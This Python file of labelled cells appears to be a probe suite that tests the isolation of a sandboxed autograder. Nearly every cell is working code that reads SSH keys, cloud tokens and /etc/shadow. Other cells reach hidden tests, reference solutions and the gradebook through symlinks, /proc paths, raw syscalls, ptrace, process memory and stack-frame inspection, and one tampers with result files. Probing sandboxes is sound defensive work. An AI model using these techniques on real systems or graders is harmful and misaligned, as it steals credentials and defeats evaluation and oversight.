# Reading what is nobody's business: tests, reference, gradebook, neighbours, home, memory, environment.

# %% hidden_tests | 5 | The hidden tests lie on the disk.
for path in TARGETS["tests"]:
    read(path)

# %% reference | 5 | The reference solution lies on the disk.
for path in TARGETS["reference"]:
    read(path)

# %% gradebook | 33 | The gradebook lies on the disk.
read(TARGETS["gradebook"])
attempt(connect=lambda: __import__("sqlite3").connect(f"file:{TARGETS['gradebook']}?mode=ro", uri=True).execute("select 1").fetchall())

# %% other_submissions | 33 | The others' notebooks lie on the disk.
for path in TARGETS["submissions"]:
    read(path)

# %% home | 28 | Keys, tokens and histories lie in the home folder.
for path in TARGETS["home files"]:
    read(path)
for name in (".ssh/id_ed25519", ".netrc", ".aws/credentials", ".config/gh/hosts.yml", ".bash_history", ".gitconfig"):
    read(os.path.join(TARGETS["home"], name))

# %% system_files | 5 | /etc, logs and other programs' files.
for path in ("/etc/passwd", "/etc/shadow", "/etc/hostname", "/etc/hosts", "/etc/resolv.conf", "/var/log/dpkg.log", "/root/.bashrc"):
    read(path)

# %% lists_folders | 5 | At least the names in the course's folders can be seen.
for folder in TARGETS["folders"]:
    attempt(**{f"list {folder}": lambda folder=folder: [look(name) for name in os.listdir(folder)]})

# %% by_links | 5, 24 | A link in the scratch leads to what cannot be opened itself.
for number, path in enumerate((*TARGETS["tests"], TARGETS["gradebook"])):
    with contextlib.suppress(OSError):
        os.symlink(path, f"link{number}")
    read(f"link{number}")
    attempt(**{f"hard link {path}": lambda path=path, number=number: os.link(path, f"hard{number}")})

# %% by_proc_root | 5, 26 | /proc/PID/root and /proc/PID/cwd are doors to the host's files.
for pid in ("self", "1", str(os.getppid()), str(TARGETS["grader"])):
    for path in (*TARGETS["tests"], TARGETS["gradebook"]):
        read(f"/proc/{pid}/root{path}")
    if pid not in ("self", str(os.getpid())):  # one's own scratch is no secret
        attempt(**{f"cwd of {pid}": lambda pid=pid: os.listdir(f"/proc/{pid}/cwd")})

# %% by_dots | 5, 24 | Paths with `..` from a folder that may be read.
for path in TARGETS["tests"]:
    for start in (TARGETS["data"], os.getcwd(), os.path.dirname(torch.__file__)):
        read(os.path.join(start, os.path.relpath(path, start)))

# %% by_handle | 5 | Opening by file handle goes around folders.
attempt(handle=lambda: call(304, -100, ctypes.create_string_buffer(160), 0), name=lambda: call(303, -100, TARGETS["gradebook"].encode(), ctypes.create_string_buffer(160), ctypes.create_string_buffer(8), 0))

# %% by_native_calls | 5, 31 | open, openat and openat2 without Python in between.
path = TARGETS["tests"][0].encode()
attempt(open=lambda: call(2, path, 0), openat=lambda: call(257, -100, path, 0), openat2=lambda: call(437, -100, path, struct.pack("QQQ", 0, 0, 0), 24))
with contextlib.suppress(OSError):
    read(f"/proc/self/fd/{os.open(path, os.O_PATH)}")

# %% imports_the_tests | 5, 6 | The tests can be imported by name.
import importlib
for folder in TARGETS["folders"]:
    sys.path.insert(0, folder)
for name in ("test_hidden", "misconceptions", "solutions", "solutions.tiny.test_hidden", "autograder.suite", "autograder.grade", "tests"):
    with contextlib.suppress(Exception):
        module = importlib.import_module(name)
        look(open(module.__file__).read())
        if "solutions" in (module.__file__ or "") or name in ("test_hidden", "misconceptions"):
            got("import " + name)

# %% caller_frames | 6 | The frames of whoever calls hold the expected values.
def answer(*a, **k):
    at = sys._getframe()
    while at is not None:
        look({key: repr(value)[:2000] for key, value in (at.f_locals | at.f_globals).items()})
        for name in ("expected", "reference", "verdict", "score", "judge", "recorder"):
            if name in at.f_locals:
                got(f"frame variable {name}")
        at = at.f_back
    raise RuntimeError("; ".join(LOOT) or "no luck")

# %% objects_in_memory | 6 | Tests, reference or scores are objects in this process.
for item in gc.get_objects():
    if isinstance(item, dict):
        look([value for value in list(item.values()) if isinstance(value, str)])
    if callable(item) and str(getattr(item, "__name__", "")).startswith("test_") and "hidden" in str(getattr(item, "__module__", "")):
        got("a hidden test in memory")

# %% linecache_and_modules | 6 | Sources that were loaded before stay in linecache and sys.modules.
import linecache
look([line for entry in linecache.cache.values() if isinstance(entry, tuple) and len(entry) > 2 for line in entry[2] or ()])
for name, module in list(sys.modules.items()):
    if name.split(".")[-1] in ("suite", "grade", "grader", "report", "diagnosis", "test_hidden", "misconceptions") and name.startswith(("autograder", "hidden", "test")):
        got("module " + name)

# %% own_memory | 6 | This process's memory still holds what its parent had read.
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as memory:
        for line in maps:
            start, end = (int(part, 16) for part in line.split()[0].split("-"))
            if "rw" in line and end - start < 256 * MEGABYTE:
                memory.seek(start)
                look(memory.read(end - start))
except (OSError, ValueError, OverflowError):
    pass

# %% heap_by_pointer | 6, 31 | The same without /proc: the heap is read by pointer.
top = libc.sbrk(0) if hasattr(libc, "sbrk") else 0
libc.sbrk.restype = ctypes.c_void_p
top = libc.sbrk(ctypes.c_long(0))
look(ctypes.string_at(top - 8 * MEGABYTE, 8 * MEGABYTE - 4096))

# %% environment | 28 | Tokens and keys in the environment.
look(os.environ)
for name in TARGETS["environment"]:
    if name in os.environ:
        got("variable " + name)

# %% environment_of_others | 26, 28 | /proc/PID/environ of grader, zygote and bwrap.
for pid in {1, 2, 3, os.getppid(), TARGETS["grader"], TARGETS["watcher"]} - {os.getpid()}:
    for name in ("environ", "cmdline", "maps", "status"):
        read(f"/proc/{pid}/{name}")

# %% memory_of_others | 26 | /proc/PID/mem and /proc/PID/fd of the grader.
for pid in {1, 2, os.getppid(), TARGETS["grader"]} - {os.getpid()}:
    attempt(**{f"mem {pid}": lambda pid=pid: open(f"/proc/{pid}/mem", "rb").close(), f"fd {pid}": lambda pid=pid: os.listdir(f"/proc/{pid}/fd")})

# %% memory_by_call | 27 | process_vm_readv, pidfd_getfd, kcmp, move_pages.
for pid in {1, os.getppid(), TARGETS["grader"]} - {os.getpid(), 0}:
    attempt(vm_readv=lambda pid=pid: call(310, pid, None, 0, None, 0, 0), kcmp=lambda pid=pid: call(312, pid, pid, 0, 0, 0), getfd=lambda pid=pid: call(438, os.pidfd_open(pid), 0, 0))

# %% traces | 27 | ptrace: attach to another, or be traced.
for pid in {1, os.getppid(), TARGETS["grader"]} - {os.getpid(), 0}:
    attempt(**{f"seize {pid}": lambda pid=pid: call(101, 0x4206, pid, 0, 0)})
attempt(be_traced=lambda: call(157, 0x59616D61, -1, 0, 0, 0), dumpable=lambda: call(157, 4, 1, 0, 0, 0))

# %% inherited_descriptors | 28 | Files that the grader had open are open here too.
for descriptor in range(3, 256):
    with contextlib.suppress(OSError):
        mode = os.fstat(descriptor).st_mode
        if descriptor != link():
            look(os.pread(descriptor, MEGABYTE, 0) if stat.S_ISREG(mode) else b"")
            got(f"descriptor {descriptor}")

# %% other_processes | 26 | Who else is running.
if others := [name for name in (os.listdir("/proc") if os.path.isdir("/proc") else []) if name.isdigit() and int(name) != os.getpid()]:
    with contextlib.suppress(OSError):
        for pid in others:
            look(open(f"/proc/{pid}/cmdline").read())
    got(f"{len(others)} processes seen")

# %% kernel_log | 5 | The kernel's log and keys.
attempt(dmesg=lambda: call(103, 3, ctypes.create_string_buffer(64), 64), kmsg=lambda: open("/dev/kmsg").close(), kallsyms=lambda: look(open("/proc/kallsyms").read(100)) or got("kallsyms"), keyctl=lambda: call(250, 0, -3, 1))

# %% data_in_gpu_memory | 37 | Device files of a GPU lie open.
for name in ("/dev/nvidia0", "/dev/nvidiactl", "/dev/dri/renderD128", "/dev/kfd"):
    attempt(**{name: lambda name=name: os.close(os.open(name, os.O_RDWR))})

# %% inputs_in_errors | 42 | Raising with the inputs in the message learns what the hidden tests ask, and what they expect.
def answer(*a, **k):
    raise ValueError(f"{a} {k} {[frame.f_code.co_name for frame in sys._current_frames().values()]} " + "; ".join(LOOT))

# %% tests_by_error | 42 | A traceback through the grader's code shows lines of the tests.
def answer(*a, **k):
    import traceback
    look("".join(traceback.format_stack()))
    raise AssertionError("; ".join(LOOT) or "no luck")

# %% watches_files | 7 | inotify tells when results are written, to overwrite them at once.
attempt(inotify=lambda: call(294, 0), fanotify=lambda: call(300, 0, 0), lease=lambda: __import__("fcntl").fcntl(0, 1024, 0))
